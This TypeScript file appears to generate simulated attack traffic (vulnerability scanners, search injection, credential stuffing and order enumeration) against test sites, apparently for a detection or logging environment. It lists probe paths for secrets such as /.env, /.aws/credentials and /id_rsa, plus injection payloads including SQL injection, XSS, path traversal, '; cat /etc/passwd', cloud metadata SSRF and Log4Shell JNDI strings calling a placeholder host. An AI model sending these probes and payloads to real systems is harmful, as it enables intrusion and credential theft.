import { FIRST_ORDER_ID } from '../backends/orders.ts';
import { apiKeyOf } from '../credentials.ts';
import { LEGACY } from '../estate.ts';
import { PEOPLE } from '../population.ts';
import { hexOf, SeededRandom } from '../seeded-random.ts';
import { Actor, API, type Journey, JSON_TYPE, type Site, times } from './actor.ts';

const PROBES = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/wp-admin/setup-config.php',
  '/phpmyadmin/index.php',
  '/server-status',
  '/actuator/env',
  '/actuator/heapdump',
  '/solr/admin/info/system',
  '/cgi-bin/test.cgi',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/backup.zip',
  '/admin/config.php',
  '/owa/auth/logon.aspx',
  '/HNAP1/',
  '/boaform/admin/formLogin',
  '/console/login',
  '/manager/html',
  '/.aws/credentials',
  '/id_rsa',
] as const;

/** Attack strings as scanners send them, percent-encoded by the sender. */
const PAYLOADS = [
  "' OR '1'='1' -- ",
  "1' UNION SELECT username, password FROM users -- ",
  "1; WAITFOR DELAY '0:0:5' -- ",
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fwindows%2fwin.ini',
  '${jndi:ldap://198.51.100.99:1389/a}',
  '${${lower:j}ndi:${lower:l}dap://198.51.100.99/x}',
  '; cat /etc/passwd',
  '{{7*7}}',
  'http://169.254.169.254/latest/meta-data/',
] as const;

function scanner(name: string, userAgent: string, sites: readonly Site[], address: string): Journey {
  return async (send) => {
    const actor = new Actor(send, name, 'scanner', userAgent, address);
    for (const site of sites) {
      for (const target of PROBES)
        await actor.noise(site, actor.random.chance(0.1) ? 'POST' : 'GET', target, 'scanner-probe', {
          endsAtGateway: true,
        });
      for (const payload of PAYLOADS)
        await actor.noise(site, 'GET', `/index.php?id=${encodeURIComponent(payload)}`, 'scanner-probe', {
          endsAtGateway: true,
          attack: 'injection',
        });
    }
  };
}

/** Attack strings in the search of a managed API: answered 200 and harmless, so an attempt and never a success. */
function searchInjector(index: number): Journey {
  return async (send) => {
    const actor = new Actor(
      send,
      `sqlmap/${index}`,
      'scanner',
      'sqlmap/1.8.11#stable (https://sqlmap.org)',
      `203.0.113.${200 + index}`,
    );
    await times(3, async () => {
      for (const payload of PAYLOADS)
        await actor.call(API, 'GET', '/catalog/v1/search', [], {
          query: `q=${encodeURIComponent(payload)}`,
          attack: 'injection',
        });
    });
    for (const target of ['/catalog/v1/admin', '/catalog/v1/debug.php', '/catalog/v1/.env'])
      await actor.noise(API, 'GET', target, 'scanner-probe');
  };
}

const STUFFING_NETWORKS = ['198.19.7', '198.19.8', '203.0.113'] as const;

/** A leaked list tried against the login: many accounts, few networks, hardly any hit. */
function stuffer(index: number): Journey {
  return async (send) => {
    const network = STUFFING_NETWORKS[index % STUFFING_NETWORKS.length] ?? STUFFING_NETWORKS[0];
    const actor = new Actor(
      send,
      `stuffing/${index}`,
      'stuffing',
      'python-requests/2.31.0',
      `${network}.${20 + index}`,
    );
    await times(75, async (turn) => {
      const hit = turn === 40 && index % 4 === 0;
      const person = PEOPLE[(index * 75 + turn) % PEOPLE.length];
      const email = hit ? person?.email : `${hexOf(`leak/${index}/${turn}`, 8)}@leaked.example`;
      await actor.call(API, 'POST', '/auth/v1/login', [], {
        headers: JSON_TYPE,
        body: JSON.stringify({ email, password: hit ? person?.password : `guess-${turn}` }),
      });
    });
  };
}

/** One client with a valid key that reads every order, one number after the other. */
const enumerator: Journey = async (send) => {
  const actor = new Actor(send, 'enumerator', 'enumerator', 'Go-http-client/2.0', '198.18.77.13');
  await times(700, async (turn) => {
    await actor.call(API, 'GET', '/orders/v1/orders/{orderId}', [FIRST_ORDER_ID + 2000 + turn], {
      headers: { apikey: apiKeyOf('mobile-app') },
      credential: 'api-key-header',
    });
  });
};

const BY_ADDRESS: Site = { ...API, host: '192.0.2.80' };
const LEGACY_SITE: Site = { entrance: 'haproxy', scheme: 'http', host: LEGACY.host };
const UNKNOWN_HOST: Site = { entrance: 'haproxy', scheme: 'https', host: '192.0.2.81' };

export const ATTACK_JOURNEYS: readonly Journey[] = [
  scanner('scanner/zgrab', 'Mozilla/5.0 zgrab/0.x', [API, BY_ADDRESS], '203.0.113.66'),
  scanner(
    'scanner/nuclei',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    [API, LEGACY_SITE, UNKNOWN_HOST],
    '203.0.113.67',
  ),
  scanner(
    'scanner/nikto',
    'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)',
    [LEGACY_SITE, BY_ADDRESS],
    '198.51.100.201',
  ),
  ...Array.from({ length: 4 }, (_, index) => searchInjector(index)),
  ...Array.from({ length: 20 }, (_, index) => stuffer(index)),
  enumerator,
];

/** Fixed order of starting, so that runs differ in timing only. */
export function inStartingOrder(journeys: readonly Journey[]): Journey[] {
  return new SeededRandom('starting-order').shuffle(journeys);
}
